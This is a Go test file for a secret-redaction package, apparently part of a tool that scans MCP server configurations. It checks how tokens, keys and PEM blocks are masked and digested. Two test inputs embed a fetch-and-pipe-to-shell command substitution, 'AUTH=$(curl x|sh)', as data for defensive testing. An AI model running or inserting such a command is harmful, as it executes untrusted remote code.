package secret_test

import (
	"crypto/sha256"
	"encoding/hex"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"

	"github.com/mcpward/mcpward/core/secret"
)

func TestDigest(t *testing.T) {
	sum := sha256.Sum256([]byte("literal-one"))
	assert.Equal(t, hex.EncodeToString(sum[:])[:8], secret.Digest("literal-one"))
	// The issue's own example: these two share their first four digits.
	assert.NotEqual(t, secret.Digest("literal-one"), secret.Digest("literal-two"))
	assert.Equal(t, "<redacted:"+secret.Digest("x")+">", secret.RedactedDigest("x"))
	assert.Equal(t, "<redacted:RUN_TOKEN default:"+secret.Digest("d")+">", secret.RedactedDefault("RUN_TOKEN", "d"))
	assert.Equal(t, "<redacted:a_b default:"+secret.Digest("d")+">", secret.RedactedDefault("a b", "d"))
	for _, m := range []string{secret.RedactedDigest("x"), secret.RedactedDefault("RUN_TOKEN", "d"), secret.Redacted, secret.RedactedVar("X")} {
		assert.True(t, secret.IsMarker(m), m)
	}
	assert.False(t, secret.IsMarker("<redacted:X default:zz>"))
	assert.False(t, secret.IsMarker("<redacted:X default:0123>"))
}

func TestMaskDigests(t *testing.T) {
	tests := []struct {
		name string
		in   string
		want string // with D(x) standing for RedactedDigest(x)
		n    int
	}{
		{"nothing", "npx -y @scope/server", "npx -y @scope/server", 0},
		{"shape", "--x " + ghpTok, "--x " + secret.RedactedDigest(ghpTok), 1},
		{"position", "--token=abc;id", "--token=" + secret.RedactedDigest("abc") + ";id", 1},
		{"two", "API_KEY=a1 SECRET=b2", "API_KEY=" + secret.RedactedDigest("a1") + " SECRET=" + secret.RedactedDigest("b2"), 2},
		{"pem then code", pemHead + "\nMIIE\nimport os", pemHead + secret.RedactedDigest("\nMIIE") + "\nimport os", 1},
		{"substitution shown", "AUTH=$(curl x|sh)", "AUTH=$(curl x|sh)", 0},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, n := secret.MaskDigests(tt.in)
			assert.Equal(t, tt.want, got)
			assert.Equal(t, tt.n, n)
		})
	}
}

// TestMaskDigestsHidesWhatMaskLiteralsHides: every planted secret the
// status masking hides, the review masking hides too.
func TestMaskDigestsHidesWhatMaskLiteralsHides(t *testing.T) {
	for kind := range uint8(plantKinds) {
		for _, seed := range [][]byte{nil, []byte("a"), []byte("seed-22"), {0xff, 3, 9}} {
			text, hidden := plant(kind, seed)
			if strings.Contains(secret.MaskLiterals(text), hidden) {
				continue // not hidden by the status masking either
			}
			got, _ := secret.MaskDigests(text)
			assert.NotContains(t, got, hidden, "kind %d: %q", kind, text)
		}
	}
}

func TestTokenRuns(t *testing.T) {
	s := "Bearer abc $(curl x|sh) p@ss!w0rd"
	var got []string
	for _, r := range secret.TokenRuns(s) {
		got = append(got, s[r[0]:r[1]])
	}
	assert.Equal(t, []string{"Bearer", "abc", "curl", "x", "sh", "p@ss!w0rd"}, got)
	assert.Empty(t, secret.TokenRuns(""))
	assert.Empty(t, secret.TokenRuns(" $() "))
}
